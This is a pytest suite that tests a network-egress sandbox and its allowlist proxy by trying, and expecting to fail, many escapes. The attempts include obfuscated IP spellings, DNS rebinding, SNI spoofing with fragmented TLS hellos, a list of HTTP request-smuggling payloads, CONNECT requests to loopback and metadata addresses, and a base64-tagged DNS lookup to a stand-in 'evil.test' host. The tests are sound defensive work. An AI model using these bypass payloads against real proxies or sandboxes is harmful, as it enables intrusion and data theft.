"""What the list does not name does not work, however it is tried. Each attempt is made twice where that is possible: where it must
be stopped, and with an entry that permits it, where the very same bytes must arrive."""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.box

CANARY = "INNERCANARY"


def reached(world):
    """What arrived at servers, by address."""
    return [(address, port) for address, port, _ in world.seen()["seen"]]


def test_nothing_else_resolves_and_nothing_is_asked_outside(world):
    names = [
        "evil.test",
        "allowed.test.evil.test",
        "xallowed.test",
        "sub.allowed.test",
        "c2VjcmV0.evil.test",
        "test",
        "a" * 63 + ".test",
    ]
    done = world.python(
        f"print([dns(n)[3] & 15 for n in {names}], [dns('allowed.test', k)[3:8] for k in (1, 28, 65)])", ["allowed.test"]
    )
    assert done["out"].startswith("[3, 3, 3, 3, 3, 3, 3]"), done
    assert [e["host"] for e in done["events"]] == [name.lower() for name in names]
    assert not world.seen()["seen"]


def test_no_other_resolver_can_be_asked(world):
    done = world.python(
        "print(dns('allowed.test', to='9.9.9.9'), dns('allowed.test', to='45.45.45.45'), say('9.9.9.9', b'x', 53))",
        ["allowed.test"],
    )
    assert done["out"].split() == ["b'OSError'", "b'OSError'", "b'<OSError>'"]


@pytest.mark.parametrize(
    "spelling", ["45.45.45.66", "757935426", "0x2d2d2d42", "055.055.055.0102", "45.2960706", "[::ffff:45.45.45.66]"]
)
def test_addresses_in_every_spelling(world, spelling):
    done = world.box(["curl", "-sS", "-m", "3", f"http://{spelling}/"], ["allowed.test"])
    assert done["status"] in (6, 7), done
    done = world.box(["curl", "-sS", "-m", "3", "--proxy", "http://127.18.0.1:3128", f"http://{spelling}/"], ["allowed.test"])
    assert CANARY not in done["out"]
    done = world.box(
        ["curl", "-sS", "-m", "3", "--proxy", "http://127.18.0.1:3128", "-p", f"http://{spelling}/"], ["allowed.test"]
    )
    assert CANARY not in done["out"]
    assert not reached(world)


def test_the_same_address_in_an_open_box(world):
    done = world.box(["curl", "-sS", "-m", "3", "http://45.45.45.66/"], ["45.45.45.66"])
    assert CANARY in done["out"]


def test_sockets_that_go_around(world):
    code = (
        "for args, to in (((2, 1), ('45.45.45.66', 80)), ((2, 2), ('45.45.45.66', 80)), ((10, 1), ('2a00:45::45', 80)), "
        "((10, 1), ('::ffff:45.45.45.66', 80)), ((2, 3, 1), ('45.45.45.66', 0)), ((17, 3, 768), ('lo', 0))):\n"
        "    try:\n"
        "        s = socket.socket(*args); s.settimeout(2)\n"
        "        s.connect(to) if args[0] != 17 else s.bind(to); s.send(b'x' * 64); print('LEAK', args)\n"
        "    except OSError as e: print(e)\n"
    )
    done = world.python(code, ["allowed.test"])
    assert "LEAK" not in done["out"], done


def test_the_host_s_loopback_is_not_the_box_s(world):
    code = "for a in ('127.0.0.1', '127.1.2.3', '0.0.0.0', '127.18.9.9'):\n for p in (80, 443, 8080, 22): print(say(a, b'GET / HTTP/1.0\\r\\nHost: allowed.test\\r\\n\\r\\n', p))"
    done = world.python(code, ["allowed.test"])
    assert CANARY not in done["out"]
    assert "GOOD" not in done["out"]
    assert not reached(world)


@pytest.mark.parametrize("name", ["loop.test", "lan.test", "meta.test", "mixed.test", "mapped.test"])
def test_names_that_lead_inside(world, name):
    code = (
        f"print(say('{name}', b'GET / HTTP/1.0\\r\\nHost: {name}\\r\\n\\r\\n'), fetch('{name}', '{name}'),"
        f"say('{name}', b'x', 7777, wait=1))"
    )
    done = world.python(code, [name, f"{name}:7777"])
    assert CANARY not in done["out"], done
    assert "not a public address" in done["out"]
    assert not reached(world)
    assert {e["verdict"] for e in done["events"]} == {"deny"}
    assert "the name leads to" in done["events"][0]["reason"]


def test_lan_permits_private_and_nothing_worse(world):
    code = "print([say(n, b'GET / HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n' % n.encode()) for n in ('lan.test', 'loop.test', 'meta.test')])"
    done = world.python(code, ["lan:lan.test", "lan:loop.test", "lan:meta.test"])
    assert done["out"].count(CANARY) == 1, done
    assert reached(world) == [("10.1.2.3", "80")]


def test_rebinding(world):
    """The name is public when the box first asks, and private afterwards: what counts is what is dialled, each time."""
    code = (
        "r = b'GET / HTTP/1.0\\r\\nHost: turn.test\\r\\n\\r\\n'\n"
        "print(say('turn.test', r)); sys.stdout.flush()\n"
        "print(say('turn.test', r))"
    )
    world.hosts("45.45.45.45 turn.test\n")
    try:
        assert world.python(code, ["turn.test"])["out"].count("GOOD") == 2
        world.hosts("127.0.0.1 turn.test\n")
        done = world.python(code, ["turn.test"])
        assert CANARY not in done["out"]
        assert not reached(world)
        world.hosts("45.45.45.45 turn.test\n127.0.0.1 turn.test\n")
        done = world.python(code, ["turn.test"])
        assert CANARY not in done["out"]
        assert not reached(world)
    finally:
        world.hosts()


def test_another_name_inside_of_tls(world):
    code = (
        "print(fetch('allowed.test', 'evil.test', host='allowed.test'), fetch('allowed.test', None, host='allowed.test'))\n"
        "def slow(b, port=443):\n"
        "    s = socket.create_connection(('allowed.test', port), 20); s.settimeout(3)\n"
        "    try:\n"
        "        for i in range(0, len(b), 7): s.sendall(b[i:i + 7]); time.sleep(0.001)\n"
        "        return s.recv(99)\n"
        "    except OSError as e: return e\n"
        "print(slow(hello('evil.test')), slow(hello(None)))\n"
        "h = hello('evil.test'); cut = h[5:]\n"
        "pieces = b''.join(b'\\x16\\3\\1' + len(cut[i:i + 40]).to_bytes(2, 'big') + cut[i:i + 40] for i in range(0, len(cut), 40))\n"
        "print(say('allowed.test', pieces, 443), slow(pieces))\n"
        "print(say('allowed.test', h, 8443), say('allowed.test', pieces, 8443))\n"
    )
    done = world.python(code, ["allowed.test", "allowed.test:8443"])
    assert CANARY not in done["out"], done
    assert "GOOD" not in done["out"], done
    seen = world.seen()
    assert all(port == "8443" and text.startswith("error") for _, port, text in seen["seen"]), seen  # dialled, and told nothing
    assert not seen["sni"], seen
    assert {e["verdict"] for e in done["events"] if e["event"] == "connect" and e["port"] == 443} == {"deny"}


def test_the_right_name_in_pieces_is_let_through(world):
    """The very same pieces, for the name that is allowed."""
    code = (
        "cut = hello('allowed.test')[5:]\n"
        "pieces = b''.join(b'\\x16\\3\\1' + len(cut[i:i + 40]).to_bytes(2, 'big') + cut[i:i + 40] for i in range(0, len(cut), 40))\n"
        "print([say('allowed.test', pieces, p, wait=1)[:3] for p in (443, 8443)])"
    )
    done = world.python(code, ["allowed.test", "allowed.test:8443"])
    assert done["out"].count("b'\\x16\\x03\\x03'") == 2, done
    assert world.seen()["sni"] == ["allowed.test", "allowed.test"]


def test_other_protocols_where_the_port_is_not_named(world):
    code = (
        "print([say('allowed.test', d, 443) for d in (b'SSH-2.0-x\\r\\n', b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', b'\\0' * 99)])\n"
        "print([say('allowed.test', d, 80) for d in (b'SSH-2.0-x\\r\\n', hello('allowed.test'), b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')])"
    )
    done = world.python(code, ["allowed.test"])
    assert not reached(world), done
    assert {e["verdict"] for e in done["events"]} == {"deny"}


HTTP = {
    "another host": "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "no host": "GET / HTTP/1.0\r\n\r\n",
    "two hosts": "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
    "absolute for another": "GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "a host with a user": "GET / HTTP/1.1\r\nHost: allowed.test@evil.test\r\n\r\n",
    "absolute with a user": "GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "connect": "CONNECT evil.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "a folded host": "GET / HTTP/1.1\r\nX: y\r\n Host: evil.test\r\nHost: allowed.test\r\n\r\n",
    "a space before the colon": "GET / HTTP/1.1\r\nHost : evil.test\r\nHost: allowed.test\r\n\r\n",
    "bare line feeds": "GET / HTTP/1.1\nHost: evil.test\n\nGET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "a bare carriage return": "GET / HTTP/1.1\r\nX: a\rHost: evil.test\r\nHost: allowed.test\r\n\r\n",
    "a NUL": "GET / HTTP/1.1\r\nHost: allowed.test\0.evil.test\r\n\r\n",
    "two lengths": "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "length and chunks": "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "hidden chunks": "POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "chunk extensions": "POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n0;x\r\n\r\n",
    "a long line": "GET /" + "a" * 100_000 + " HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "a second request": "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "behind a body": "POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 2\r\n\r\nokGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
    "an encoded host": "GET http://%65vil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
}


@pytest.mark.parametrize("port", [80, 8080])
def test_http_that_is_for_somebody_else(world, port):
    code = f"print([say('allowed.test', d.encode('latin-1'), {port}, wait=2) for d in {list(HTTP.values())!r}])"
    done = world.python(code, ["allowed.test", "allowed.test:8080"])
    assert "evil" not in "".join(text for *_, text in world.seen()["seen"]).replace("x-evil", ""), done
    assert CANARY not in done["out"]
    denied = [e for e in done["events"] if e["verdict"] == "deny"]
    assert len(denied) == len(HTTP), [e["reason"] for e in denied]


def test_the_proxy_has_the_same_rules(world):
    targets = ["evil.test:443", "allowed.test.evil.test:443", "127.0.0.1:443", "localhost:443", "[::1]:443", "2130706433:443", "0x7f.1:443",
               "[::ffff:127.0.0.1]:443", "[64:ff9b::7f00:1]:443", "[fe80::1%25lo]:443", "allowed.test:22", "allowed.test:8443", "loop.test:443",
               "169.254.169.254:80", "127.18.0.1:53", "127.18.0.2:443", "allowed.test@evil.test:443", "evil.test\\0.allowed.test:443"]  # fmt: skip
    code = (
        f"for t in {targets!r}:\n"
        "    s = socket.create_connection(('127.18.0.1', 3128), 20); s.settimeout(3)\n"
        "    s.sendall(f'CONNECT {t} HTTP/1.1\\r\\nHost: {t}\\r\\n\\r\\n'.encode('latin-1')); a = s.recv(999); b = b''\n"
        "    try:\n"
        "        if b' 200 ' in a: s.sendall(hello('allowed.test')); b = s.recv(999)\n"
        "    except OSError as e: b = str(e).encode()\n"
        "    print(t, a.split(b'\\r\\n')[0], b[:20])\n"
        "for t, n in (('allowed.test:443', 'evil.test'), ('allowed.test:443', None), ('ALLOWED.test.:443', 'evil.test')):\n"
        "    s = socket.create_connection(('127.18.0.1', 3128), 20); s.settimeout(3)\n"
        "    s.sendall(f'CONNECT {t} HTTP/1.1\\r\\nHost: {t}\\r\\n\\r\\n'.encode()); a = s.recv(999); print(fetch('', n, sock=s, host='evil.test'))\n"
        "for u in ('http://evil.test/', 'http://127.0.0.1/', 'http://allowed.test@evil.test/', 'https://evil.test/', '/', 'http://loop.test/', 'ftp://allowed.test/'):\n"
        "    print(u, say('127.18.0.1', f'GET {u} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'.encode(), 3128)[:40])\n"
        "r = b'GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'\n"
        "for second in (b'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'):\n"
        "    print('SECOND', say('127.18.0.1', r + second, 3128))\n"
    )
    done = world.python(code, ["allowed.test", "loop.test"])
    assert CANARY not in done["out"], done["out"]
    assert done["out"].count("200 Connection established") == 1 + 0, done["out"]  # loop.test, which then leads nowhere
    assert done["out"].count("GOOD") == 2
    seen = world.seen()
    assert not seen["sni"], seen
    assert [a for a, *_ in seen["seen"]] == ["45.45.45.45"] * 2, seen


def test_deny_wins_on_every_port(world):
    code = (
        "print(dns('a.wild.test')[3] & 15, dns('b.wild.test')[3] & 15)\n"
        "print(say('127.18.0.1', b'CONNECT a.wild.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', 3128))\n"
        "print([say(f'127.18.0.{n}', hello('a.wild.test'), p) for n in range(2, 9) for p in (443, 22)])"
    )
    done = world.python(code, ["*.wild.test", "a.wild.test:22"], ["a.wild.test"])
    assert done["out"].startswith("3 0"), done
    assert not reached(world)
    done = world.python("print(fetch('allowed.test', 'allowed.test'))", ["allowed.test"], ["45.45.45.45"])
    assert "GOOD" not in done["out"]
    assert "denied by `45.45.45.45`" in done["events"][0]["reason"]


def test_no_list_no_network(world):
    code = "print(dns('allowed.test')[3] & 15, say('127.0.0.1', b'x', 80), say('127.18.0.2', b'x', 443), say('45.45.45.45', b'x', 80))"
    done = world.python(code, [])
    assert done["out"].split() == ["3", "b'<ConnectionRefusedError>'", "b'<ConnectionRefusedError>'", "b'<OSError>'"], done


def test_when_the_process_dies_the_box_has_no_network(world):
    code = (
        "s = socket.create_connection(('allowed.test', 7777), 20); s.sendall(b'x'); print(s.recv(9)); sys.stdout.flush(); time.sleep(1.5)\n"
        "print(s.recv(9) if True else 0, say('127.18.0.2', b'x', 7777), say('127.18.0.2', b'x', 443), dns('allowed.test'))"
    )
    done = world.python(
        "import builtins\n" + code.replace("s.recv(9) if True else 0", "'end'"),
        ["allowed.test", "allowed.test:7777"],
        kill_egress=0.8,
    )
    assert done["out"].splitlines()[0] == "b'x'"
    assert done["out"].splitlines()[1].split() == [
        "end",
        "b'<ConnectionRefusedError>'",
        "b'<ConnectionRefusedError>'",
        "b'TimeoutError'",
    ]


def test_the_box_sees_nothing_of_the_process(world):
    code = "print(sorted(p for p in os.listdir('/proc') if p.isdigit()), [os.readlink(f'/proc/{p}/fd/{f}') for p in (1, os.getpid()) for f in os.listdir(f'/proc/{p}/fd') if int(f) > 2 and os.path.lexists(f'/proc/{p}/fd/{f}')])"
    done = world.python(code, ["allowed.test"])
    assert done["out"] == "['1', '2'] ['anon_inode:[eventfd]']\n"  # bubblewrap's own


def test_ports_of_the_list_cannot_be_taken_over(world):
    """A program in the box that listens on an address of ours would only fool itself; still it cannot."""
    code = (
        "for a, p in (('127.18.0.2', 7777), ('0.0.0.0', 7777), ('127.0.0.1', 80), ('127.18.0.1', 53), ('127.18.0.1', 3128)):\n"
        "    s = socket.socket()\n"
        "    s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1)\n"
        "    try: s.bind((a, p)); s.listen(); print('LEAK', a, p)\n"
        "    except OSError as e: print(e)\n"
        "s = socket.socket(); s.bind(('127.0.0.1', 7777)); s.listen(); print('free')\n"
    )
    done = world.python(code, ["allowed.test", "allowed.test:7777"])
    assert "LEAK" not in done["out"]
    assert "free" in done["out"]
